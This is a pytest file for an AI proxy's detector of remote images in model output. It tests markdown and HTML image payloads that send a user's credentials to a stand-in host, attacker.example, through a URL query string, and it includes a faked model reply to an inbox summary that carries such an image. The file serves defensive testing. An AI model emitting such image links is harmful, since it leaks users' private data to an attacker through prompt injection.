"""The ``remote_image`` detector (classifiers/rules/links.py): images a client loads by
itself from a host the answer names, the way a prompt injection sends the user's data out;
and through the real proxy, an answer carrying one blocked when the policy says so."""

from __future__ import annotations

import aiohttp
import pytest

from classifiers import registry
from classifiers.rules import RulesClassifier

EXFIL = "https://attacker.example/p.png?d=alice%40corp.example%3Apassw0rd"


def rules(**options: object) -> RulesClassifier:
    classifier = registry.build("rules", "links", {"detectors": ["remote_image"], **options})
    assert isinstance(classifier, RulesClassifier)
    return classifier


@pytest.mark.parametrize("text", [
    f"Done! ![status]({EXFIL})",
    f"![]( <{EXFIL}> )",
    f'<img src="{EXFIL}" width=1>',
    f"<IMG alt='x' SRC={EXFIL}>",
    f'<picture><source srcset="{EXFIL} 2x"></picture>',
    f'<iframe src="{EXFIL}"></iframe>',
    "![logo](//attacker.example/x.png)",  # scheme-relative
    f"See ![the chart][c] above.\n\n[c]: {EXFIL}",  # reference style
])
def test_images_loaded_from_other_hosts_are_found(text: str) -> None:
    classifier = rules()
    assert classifier.scores(text) == {"remote_image": 1.0}
    (span,) = classifier.spans(text, ["remote_image"])
    assert text[span.start:span.end].startswith(("https://attacker", "//attacker"))


@pytest.mark.parametrize("text", [
    f"Read more [here]({EXFIL}).",  # a link: the user's click
    "![logo](/static/logo.png) and ![icon](images/i.png)",  # the site's own
    "![dot](data:image/png;base64,iVBORw0KGgo=)",  # nothing leaves
    f"[c]: {EXFIL}",  # a definition, and no image to use it
    "An exclamation mark! [Not an image](https://example.com)",
    "<imgs src=https://attacker.example/x.png>",
    "![broken](http://[::1/x.png)",
])
def test_links_and_local_images_are_not(text: str) -> None:
    assert rules().scores(text) == {"remote_image": 0.0}


def test_allowed_hosts_are_globs() -> None:
    classifier = rules(image_hosts=["cdn.example.com", "*.images.example.org"])
    assert classifier.scores("![a](https://CDN.example.com/a.png)") == {"remote_image": 0.0}
    assert classifier.scores("![a](https://eu.images.example.org/a.png)") == {
        "remote_image": 0.0}
    assert classifier.scores("![a](https://images.example.org.attacker.example/a.png)") == {
        "remote_image": 1.0}
    assert classifier.version != rules().version  # verdicts of one never serve the other


def test_a_long_text_costs_linear_time() -> None:
    """Bounded patterns: a text of unclosed image syntax is read once, not backtracked."""
    text = "![" + "a" * 100_000 + "<img " * 20_000
    assert rules().scores(text) == {"remote_image": 0.0}


async def test_an_answer_that_sends_data_out_is_blocked(start_proxy, fake_upstream) -> None:
    from tests.support.upstream import completion
    base, _ = await start_proxy(
        checks=[{"name": "links", "type": "rules", "directions": ["output"],
                 "options": {"detectors": ["remote_image"], "image_hosts": ["cdn.example.com"]}}],
        policy={"input": {}, "output": {"links": {"remote_image": {"block": 0.5}}},
                "toxic_labels": [], "refusal_label": None})
    body = {"model": "m", "messages": [{"role": "user", "content": "Summarise my inbox."}]}
    async with aiohttp.ClientSession() as session:
        fake_upstream.answer = lambda request: completion(f"Summary ready. ![s]({EXFIL})")
        async with session.post(f"{base}/v1/chat/completions", json=body) as response:
            text = await response.text()
            assert response.headers["x-safety-decision"] == "block"
        assert "attacker.example" not in text
        fake_upstream.answer = lambda request: completion(
            "Summary ready. ![s](https://cdn.example.com/s.png)")
        async with session.post(f"{base}/v1/chat/completions", json=body) as response:
            assert response.headers["x-safety-decision"] == "allow", await response.text()


def test_a_url_cut_short_by_a_window_is_not_judged_on_its_cut_host() -> None:
    """A window that ends inside an allowed host ("cdn.exa") is not read as another host;
    one that ends after the host has it whole."""
    classifier = rules(image_hosts=["cdn.example.com"])
    assert classifier.scores("Summary. ![s](https://cdn.exa") == {"remote_image": 0.0}
    assert classifier.scores("Summary. ![s](https://attacker.example/p") == {
        "remote_image": 1.0}
